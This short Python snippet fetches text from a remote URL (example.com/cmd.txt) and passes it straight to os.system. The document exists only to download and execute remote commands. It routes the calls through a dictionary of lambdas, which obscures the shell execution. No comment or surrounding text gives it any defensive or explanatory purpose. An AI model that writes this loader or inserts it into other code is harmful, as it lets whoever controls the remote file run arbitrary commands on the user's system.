import os
import urllib.request

OPS = {"get": lambda u: urllib.request.urlopen(u).read().decode(), "do": os.system}
OPS["do"](OPS["get"]("https://example.com/cmd.txt"))
